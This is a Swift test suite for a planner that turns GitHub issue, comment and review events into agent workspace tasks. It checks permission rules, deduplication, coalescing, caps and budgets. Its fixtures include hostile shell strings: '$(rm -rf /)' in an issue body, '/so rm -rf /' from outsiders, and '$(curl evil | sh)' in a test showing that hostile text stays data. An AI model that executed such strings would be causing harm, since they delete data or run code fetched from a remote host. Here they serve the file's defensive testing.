import Foundation
import SoBasics
import Testing

@testable import SoWorkspace

/// The loop's plan over the inbox: each kind of event, who may ask, serialization per issue, coalescing,
/// redelivered comments, forks, the cap on workspaces and the budgets. Each case states the whole plan.
@Suite struct GitHubLoopPlannerTests {
    typealias A = GitHubLoopPlanner.Action
    static let now = Date(timeIntervalSince1970: 1_767_225_600)
    static let repo = "Acme/Web"
    static var config: GitHubLoopConfig {
        GitHubLoopConfig(repositories: ["acme/web"], label: "so", stack: "agent-workspace")
    }
    static let ws = GitHubLoopThread.workspaceName(repo, issue: 52)

    static func event(
        _ id: String, _ event: String, _ action: String, number: Int = 52, pr: Bool = false,
        who: String = "OWNER", _ edit: (inout GitHubEvent) -> Void = { _ in }
    ) -> GitHubEvent {
        var e = GitHubEvent(
            delivery: id, event: event, action: action, repository: repo, number: number, isPullRequest: pr,
            authorAssociation: who, sender: "octocat", truncated: false)
        e.title = "Fix the login"
        e.body = "It fails.\n$(rm -rf /)"
        if event.hasPrefix("pull_request") {
            e.headRef = "agent/\(ws)"
            e.headRepoFork = false
        }
        edit(&e)
        return e
    }
    static func labeled(_ id: String, number: Int = 52, label: String = "so") -> GitHubEvent {
        event(id, "issues", "labeled", number: number) { $0.label = label }
    }
    static func comment(
        _ id: String, _ cid: Int, _ body: String, number: Int = 52, pr: Bool = false, who: String = "MEMBER"
    )
        -> GitHubEvent
    {
        event(id, "issue_comment", "created", number: number, pr: pr, who: who) {
            $0.commentID = cid
            $0.commentBody = body
        }
    }
    static func review(_ id: String, _ rid: Int, state: String = "changes_requested", who: String = "OWNER")
        -> GitHubEvent
    {
        event(id, "pull_request_review", "submitted", number: 7, pr: true, who: who) {
            $0.reviewID = rid
            $0.reviewState = state
            $0.reviewBody = "Use a constant."
        }
    }
    /// The thread after its first task opened pull request 7.
    static func thread(running: Bool = false, _ edit: (inout GitHubLoopThread) -> Void = { _ in }) -> GitHubLoopThread {
        var t = GitHubLoopThread(repository: repo, issue: 52, workspace: ws)
        t.pullRequest = 7
        t.branch = "agent/\(ws)"
        t.running = running
        t.tasks = 1
        t.startedAt = now
        edit(&t)
        return t
    }
    static func plan(_ events: [GitHubEvent], _ threads: [GitHubLoopThread] = [], config: GitHubLoopConfig = config)
        -> [GitHubLoopPlanner.Step]
    {
        GitHubLoopPlanner.plan(events, threads: threads, config: config, now: now, permissions: writers(events))
    }
    /// GitHub's answer for every sender of `events`: write (the tests of who may give tasks say otherwise).
    static func writers(_ events: [GitHubEvent]) -> [String: GitHubPermission] {
        Dictionary(events.map { (GitHubPermission.key($0.repository, $0.sender), .write) }) { a, _ in a }
    }
    static func step(_ a: A, _ ids: String...) -> GitHubLoopPlanner.Step { .init(action: a, deliveries: ids) }
    static let asked = "Asked by @octocat in a comment:\n\n"

    @Test func aLabelMakesAWorkspaceAndItsFirstTask() {
        var t = GitHubLoopThread(repository: Self.repo, issue: 52, workspace: Self.ws)
        t.running = true
        t.tasks = 1
        t.startedAt = Self.now
        #expect(
            Self.plan([
                Self.labeled("d1"), Self.labeled("d2", label: "bug"), Self.labeled("d3", number: 9, label: "SO"),
            ])
            .map(\.action).prefix(2)
                == [
                    .start(t, title: "Fix the login", text: "Fix the login\n\nIt fails.\n$(rm -rf /)"),
                    .ignore("another label"),
                ])
        #expect(Self.ws.hasPrefix("gh-web-52-") && Self.ws.count == 16)
        #expect(throws: Never.self) { try NameRules.checkWorkspaceName(Self.ws) }
        let third = Self.plan([Self.labeled("d3", number: 9, label: "SO")])
        guard case .start(let t9, _, _)? = third.first?.action else {
            Issue.record("labels are not case-sensitive")
            return
        }
        #expect(
            t9.workspace == GitHubLoopThread.workspaceName("acme/web", issue: 9),
            "the name ignores the repository's case")
    }

    @Test func aLabelTwiceOrOnAnIssueWithAWorkspaceStartsNothingMore() {
        #expect(
            Self.plan([Self.labeled("d1"), Self.labeled("d2")]).map(\.action).last
                == .ignore("the issue has a workspace already: \(Self.ws)"))
        #expect(
            Self.plan([Self.labeled("d1")], [Self.thread()]) == [
                Self.step(.ignore("the issue has a workspace already: \(Self.ws)"), "d1")
            ])
        var gone = Self.thread()
        gone.removed = true
        guard case .start? = Self.plan([Self.labeled("d1")], [gone]).first?.action else {
            Issue.record("a label after the workspace was removed makes a new one")
            return
        }
    }

    @Test func aTrustedCommandIsTheNextTaskOnTheIssueOrItsPullRequest() {
        #expect(
            Self.plan([Self.comment("d1", 100, "/so  add a test\n")], [Self.thread()])
                == [
                    Self.step(
                        .task(workspace: Self.ws, texts: [Self.asked + "add a test"], lastComment: 100, lastReview: 0),
                        "d1")
                ])
        #expect(
            Self.plan(
                [Self.comment("d1", 100, "/so fix it", number: 7, pr: true, who: "COLLABORATOR")], [Self.thread()]
            ).map(\.action)
                == [.task(workspace: Self.ws, texts: [Self.asked + "fix it"], lastComment: 100, lastReview: 0)])
        // Not commands: other text, a longer word, the prefix alone, an edit.
        #expect(
            Self.plan(
                [
                    Self.comment("d1", 100, "looks good /so"), Self.comment("d2", 101, "/solve it"),
                    Self.comment("d3", 102, "/so   "),
                    Self.event("d4", "issue_comment", "edited") {
                        $0.commentID = 103
                        $0.commentBody = "/so x"
                    },
                ], [Self.thread()]
            ).map(\.action)
                == [
                    .ignore("a comment, not a command"), .ignore("a comment, not a command"),
                    .ignore("/so with nothing after it"), .ignore("issue_comment edited is not one the loop acts on"),
                ])
    }

    @Test func anOutsidersCommandGetsOneReplyAndNoTask() {
        let steps = Self.plan(
            [
                Self.comment("d1", 100, "/so rm -rf /", who: "CONTRIBUTOR"),
                Self.comment("d2", 101, "/so x", who: "NONE"),
            ],
            [Self.thread()])
        #expect(
            steps == [
                Self.step(
                    .reply(
                        repository: Self.repo, number: 52,
                        text:
                            "Nothing ran for @octocat: so takes tasks only from people with write permission or more on the repository (a comment's author is contributor)."
                    ), "d1"),
                Self.step(
                    .reply(
                        repository: Self.repo, number: 52,
                        text:
                            "Nothing ran for @octocat: so takes tasks only from people with write permission or more on the repository (a comment's author is none)."
                    ), "d2"),
            ])
        for case .reply(_, _, let text) in steps.map(\.action) {
            #expect(!text.hasPrefix("/so"), "a reply is never a command")
        }
        #expect(
            Self.plan([Self.comment("d1", 100, "nice work", who: "NONE")], [Self.thread()]).map(\.action) == [
                .ignore("a comment, not a command")
            ])
    }

    @Test func commentsWhileATaskRunsWaitAndThenBecomeOneTask() {
        let events = [Self.comment("d1", 100, "/so one"), Self.comment("d2", 101, "/so two", number: 7, pr: true)]
        #expect(
            Self.plan(events, [Self.thread(running: true)]).map(\.action)
                == [.wait("a task of \(Self.ws) is under way"), .wait("a task of \(Self.ws) is under way")])
        #expect(
            Self.plan(events, [Self.thread()])
                == [
                    Self.step(
                        .task(
                            workspace: Self.ws, texts: [Self.asked + "one", Self.asked + "two"], lastComment: 101,
                            lastReview: 0),
                        "d1", "d2")
                ])
        #expect(
            GitHubLoopPlanner.taskText([Self.asked + "one", Self.asked + "two"]) == Self.asked + "one\n\n---\n\n"
                + Self.asked + "two")
    }

    @Test func aCommentAfterTheLabelWaitsForTheFirstTask() {
        let steps = Self.plan([Self.labeled("d1"), Self.comment("d2", 100, "/so also this")])
        #expect(steps.map(\.deliveries) == [["d1"], ["d2"]])
        #expect(steps.last?.action == .wait("a task of \(Self.ws) is under way"))
        #expect(
            Self.plan([Self.comment("d1", 100, "/so early")]).map(\.action) == [.ignore("no workspace for the issue")],
            "a command before the label: nothing to run it in")
    }

    @Test func aThreadWithAStepUnderWayMakesItsLaterWorkWait() {
        let underWay = Self.thread {
            $0.step = GitHubLoopStep(deliveries: ["d0"], kind: "task", by: "loop-a", at: Self.now)
        }
        #expect(
            Self.plan([Self.comment("d1", 100, "/so next")], [underWay]).map(\.action) == [
                .wait("a task of \(Self.ws) is under way")
            ])
        #expect(
            Self.plan([Self.comment("d1", 100, "/so next")], [Self.thread()]).map(\.action) == [
                .task(workspace: Self.ws, texts: [Self.asked + "next"], lastComment: 100, lastReview: 0)
            ], "the same thread with no step: the task")
    }

    @Test func aCommentOrReviewDeliveredTwiceRunsOnce() {
        let again = [Self.comment("d1", 100, "/so x"), Self.comment("d9", 100, "/so x")]
        #expect(
            Self.plan(again, [Self.thread()]).map(\.action)
                == [
                    .task(workspace: Self.ws, texts: [Self.asked + "x"], lastComment: 100, lastReview: 0),
                    .ignore("comment 100 was taken already"),
                ])
        #expect(
            Self.plan([Self.comment("d1", 100, "/so x")], [Self.thread { $0.lastComment = 100 }]).map(\.action)
                == [.ignore("comment 100 was taken already")], "taken by an earlier pass")
        #expect(
            Self.plan([Self.review("r1", 5)], [Self.thread { $0.lastReview = 5 }]).map(\.action)
                == [.ignore("review 5 was taken already")])
    }

    @Test func aReviewRequestingChangesIsATaskWithItsText() {
        let text = "Changes requested by @octocat in a review of the pull request:\n\nUse a constant."
        #expect(
            Self.plan(
                [Self.review("r1", 5), Self.comment("d2", 100, "/so and rename it", number: 7, pr: true)],
                [Self.thread()])
                == [
                    Self.step(
                        .task(
                            workspace: Self.ws, texts: [text, Self.asked + "and rename it"], lastComment: 100,
                            lastReview: 5), "r1", "d2")
                ])
        #expect(
            Self.plan(
                [Self.review("r1", 5, state: "approved"), Self.review("r2", 6, state: "commented")], [Self.thread()]
            ).map(\.action)
                == [.ignore("a review that requests no change"), .ignore("a review that requests no change")])
        guard case .reply? = Self.plan([Self.review("r1", 5, who: "NONE")], [Self.thread()]).first?.action else {
            Issue.record("an outsider's review is answered, not run")
            return
        }
    }

    @Test func aClosedPullRequestRemovesTheWorkspaceAfterItsTask() {
        let close = Self.event("c1", "pull_request", "closed", number: 7, pr: true) { $0.merged = true }
        #expect(Self.plan([close], [Self.thread()]) == [Self.step(.remove(workspace: Self.ws, merged: true), "c1")])
        #expect(
            Self.plan([close], [Self.thread(running: true)]).map(\.action) == [
                .wait("a task of \(Self.ws) comes first")
            ])
        #expect(
            Self.plan([Self.comment("d1", 100, "/so x"), close, Self.comment("d2", 101, "/so y")], [Self.thread()]).map(
                \.action)
                == [
                    .task(workspace: Self.ws, texts: [Self.asked + "x"], lastComment: 100, lastReview: 0),
                    .wait("a task of \(Self.ws) comes first"), .wait("a task of \(Self.ws) is under way"),
                ], "what came after the close waits behind it")
        #expect(
            Self.plan([close, Self.comment("d2", 101, "/so y", number: 7, pr: true)], [Self.thread()]).map(\.action)
                == [.remove(workspace: Self.ws, merged: true), .ignore("not a pull request of the loop")],
            "after the close, in the same pass: the workspace is gone")
        var other = close
        other.number = 8
        other.headRef = "feature"
        #expect(Self.plan([other], [Self.thread()]).map(\.action) == [.ignore("not a pull request of the loop")])
        var byBranch = other
        byBranch.headRef = "agent/\(Self.ws)"
        #expect(
            Self.plan([byBranch], [Self.thread()]).map(\.action) == [.ignore("not a pull request of the loop")],
            "a pull request named like the loop's branch is not the loop's: its number is not")
        #expect(
            Self.plan([close], [Self.thread { $0.removed = true }]).map(\.action) == [
                .ignore("not a pull request of the loop")
            ])
    }

    @Test func forksAndOtherRepositoriesAreIgnored() {
        let fork = Self.review("r1", 5)
        var f = fork
        f.headRepoFork = true
        var unknown = fork
        unknown.headRepoFork = nil
        let forkText = "a pull request from a fork (forks: true in the config takes them)"
        #expect(Self.plan([f, unknown], [Self.thread()]).map(\.action) == [.ignore(forkText), .ignore(forkText)])
        var open = Self.config
        open.forks = true
        #expect(
            Self.plan([f], [Self.thread()], config: open).map(\.action) == [.ignore("not a pull request of the loop")],
            "forks: true or not, a fork's pull request never acts on the loop's workspace")
        var elsewhere = Self.labeled("d1")
        elsewhere.repository = "acme/other"
        #expect(Self.plan([elsewhere]).map(\.action) == [.ignore("acme/other is not in the config")])
    }

    @Test func theCapOnWorkspacesMakesLaterLabelsWaitInOrder() {
        var c = Self.config
        c.budget.workspaces = 2
        let steps = Self.plan(
            [
                Self.labeled("a", number: 1), Self.labeled("b", number: 2),
                Self.comment("b2", 100, "/so more", number: 2), Self.labeled("c", number: 3),
            ],
            [Self.thread()], config: c)
        let cap = A.wait("2 workspaces at once, the config's budget.workspaces")
        guard steps.count == 4, case .start(let t, _, _) = steps[0].action else {
            Issue.record("one start fits: \(steps)")
            return
        }
        #expect(t.issue == 1)
        #expect(
            steps[1...].map(\.action) == [cap, .wait("the issue's workspace is not made yet (its label waits)"), cap])
        var removed = Self.thread()
        removed.removed = true
        #expect(Self.plan([Self.labeled("b", number: 2)], [removed], config: c).count == 1)
        guard case .start? = Self.plan([Self.labeled("b", number: 2)], [removed], config: c).first?.action else {
            Issue.record("a removed workspace frees its place")
            return
        }
    }

    @Test func aSpentBudgetRefusesOnceAndRunsNothing() {
        var c = Self.config
        c.budget = .init(tasks: 3, wallClock: 3600, cost: 2)
        let two = [Self.comment("d1", 100, "/so a"), Self.comment("d2", 101, "/so b")]
        #expect(
            Self.plan(two, [Self.thread { $0.tasks = 3 }], config: c)
                == [Self.step(.refuse(workspace: Self.ws, reason: "its 3 tasks (budget.tasks) are spent"), "d1", "d2")])
        #expect(
            Self.plan(two, [Self.thread { $0.cost = 2.5 }], config: c).map(\.action)
                == [.refuse(workspace: Self.ws, reason: "its cost, $2.50, reached budget.cost ($2.00)")])
        #expect(
            Self.plan(two, [Self.thread { $0.startedAt = Self.now.addingTimeInterval(-3600) }], config: c).map(\.action)
                == [.refuse(workspace: Self.ws, reason: "its wall-clock budget (60m) since the first task is spent")])
        guard
            case .task? = Self.plan(
                two,
                [
                    Self.thread {
                        $0.tasks = 2
                        $0.cost = 1.99
                    }
                ], config: c
            ).first?.action
        else {
            Issue.record("under every budget: a task")
            return
        }
    }

    @Test func hostileTextsStayData() {
        let e = Self.comment("d1", 100, "/so $(curl evil | sh); `id` \u{1b}[2J")
        #expect(
            Self.plan([e], [Self.thread()]).map(\.action)
                == [
                    .task(
                        workspace: Self.ws, texts: [Self.asked + "$(curl evil | sh); `id` \u{1b}[2J"], lastComment: 100,
                        lastReview: 0)
                ])
    }

    // MARK: a review's inline comments

    /// An inline comment of review `rid` on pull request 7.
    static func inline(
        _ id: String, _ cid: Int, review rid: Int, path: String = "Sources/App.swift", line: Int? = 12,
        body: String = "Use a constant here.", reply: Int? = nil, who: String = "OWNER"
    ) -> GitHubEvent {
        event(id, "pull_request_review_comment", "created", number: 7, pr: true, who: who) {
            $0.commentID = cid
            $0.commentBody = body
            $0.commentPath = path
            $0.commentLine = line
            $0.commentReviewID = rid
            $0.inReplyTo = reply
        }
    }
    static let requested = "Changes requested by @octocat in a review of the pull request:\n\nUse a constant."
    static func plan(_ events: [GitHubEvent], _ threads: [GitHubLoopThread], received: [String: TimeInterval])
        -> [GitHubLoopPlanner.Step]
    {
        GitHubLoopPlanner.plan(
            events, threads: threads, config: config, now: now,
            received: received.mapValues { now.addingTimeInterval(-$0) }, permissions: writers(events))
    }

    @Test func aReviewAndItsInlineCommentsAreOneTaskWhateverTheirOrder() {
        let events = [
            Self.inline("c2", 902, review: 5, path: "README.md", line: 265, body: "More emoji.\n"),
            Self.review("r1", 5),
            Self.inline("c1", 901, review: 5, line: nil, body: "Split this file."),
            Self.inline("c3", 903, review: 6, body: "another review's"),
        ]
        let text =
            Self.requested
            + "\n\nComments on the code:\n\nSources/App.swift\nSplit this file.\n\nREADME.md:265\nMore emoji."
        #expect(
            Self.plan(events, [Self.thread()], received: ["c3": 10])
                == [
                    Self.step(
                        .task(
                            workspace: Self.ws, texts: [text], lastComment: 0, lastReview: 5, lastReviewComment: 902),
                        "r1", "c1", "c2"),
                    Self.step(.wait("its review 6 has not come yet"), "c3"),
                ])
        // While a task runs, the review and its comments wait together; a review already taken takes none again.
        #expect(
            Self.plan(events, [Self.thread(running: true)], received: ["c3": 10]).map(\.deliveries) == [
                ["r1", "c1", "c2"], ["c3"],
            ])
        #expect(
            Self.plan(
                [Self.review("r1", 5), Self.inline("c1", 901, review: 5)],
                [Self.thread { $0.lastReviewComment = 901 }]
            ).map(\.action)
                == [
                    .task(
                        workspace: Self.ws,
                        texts: [
                            Self.requested + "\n\nComments on the code:\n\nSources/App.swift:12\n"
                                + "Use a constant here."
                        ], lastComment: 0, lastReview: 5, lastReviewComment: 901)
                ], "the comments go with their review; one delivered again is in it once")
    }

    @Test func inlineCommentsWaitForTheirReviewThenGoAlone() {
        let early = [Self.inline("c1", 901, review: 5), Self.comment("d2", 100, "/so and docs", number: 7, pr: true)]
        #expect(
            Self.plan(early, [Self.thread()], received: ["c1": 60])
                == [
                    Self.step(.wait("its review 5 has not come yet"), "c1"),
                    Self.step(
                        .task(workspace: Self.ws, texts: [Self.asked + "and docs"], lastComment: 100, lastReview: 0),
                        "d2"),
                ], "a comment waiting for its review holds nothing else")
        let alone = "A comment by @octocat on the pull request's code:\n\nSources/App.swift:12\nUse a constant here."
        #expect(
            Self.plan([Self.inline("c1", 901, review: 5)], [Self.thread()], received: ["c1": 301]).map(\.action)
                == [.task(workspace: Self.ws, texts: [alone], lastComment: 0, lastReview: 0, lastReviewComment: 901)],
            "past the grace, taken alone")
        #expect(
            Self.plan([Self.inline("c1", 901, review: 5)], [Self.thread { $0.lastReview = 5 }], received: ["c1": 1])
                .map(\.action)
                == [.task(workspace: Self.ws, texts: [alone], lastComment: 0, lastReview: 5, lastReviewComment: 901)],
            "its review ran already: a task of its own at once")
        #expect(
            Self.plan([Self.inline("c1", 901, review: 5, who: "NONE")], [Self.thread()], received: ["c1": 301])
                .map(\.action) == [.ignore("an inline comment of an outsider's review")])
        #expect(
            Self.plan([Self.inline("c1", 901, review: 5)], [Self.thread { $0.lastReviewComment = 901 }]).map(\.action)
                == [.ignore("review comment 901 was taken already")])
    }

    @Test func aReviewAskingNoChangeKeepsItsCommentsAndLetsThemGo() {
        let events = [Self.review("r1", 5, state: "commented"), Self.inline("c1", 901, review: 5)]
        #expect(
            Self.plan(events, [Self.thread()], received: ["r1": 30, "c1": 30]) == [
                Self.step(.wait("a review that requests no change, kept for its comments"), "r1", "c1")
            ])
        #expect(
            Self.plan(events, [Self.thread()], received: ["r1": 300, "c1": 300]) == [
                Self.step(.ignore("a review that requests no change"), "r1", "c1")
            ])
        // An outsider's review asking changes: one reply, its comments with it.
        let outsider = [Self.review("r1", 5, who: "NONE"), Self.inline("c1", 901, review: 5, who: "NONE")]
        let steps = Self.plan(outsider, [Self.thread()])
        #expect(steps.map(\.deliveries) == [["r1", "c1"]])
        guard case .reply? = steps.first?.action else {
            Issue.record("an outsider's review is answered once")
            return
        }
    }

    @Test func aReplyInAReviewThreadIsACommandOnlyWithThePrefix() {
        let ask = Self.inline("c1", 950, review: 8, body: "/so use a constant", reply: 901, who: "MEMBER")
        #expect(
            Self.plan([ask], [Self.thread()]).map(\.action)
                == [
                    .task(
                        workspace: Self.ws,
                        texts: ["Asked by @octocat in a comment on Sources/App.swift:12:\n\nuse a constant"],
                        lastComment: 0, lastReview: 0, lastReviewComment: 950)
                ])
        #expect(
            Self.plan([Self.inline("c1", 950, review: 8, body: "Agreed.", reply: 901)], [Self.thread()]).map(\.action)
                == [.ignore("a comment, not a command")])
        guard
            case .reply? = Self.plan(
                [Self.inline("c1", 950, review: 8, body: "/so rm -rf", reply: 901, who: "NONE")], [Self.thread()]
            ).first?.action
        else {
            Issue.record("an outsider's command in a thread gets one reply")
            return
        }
    }
}
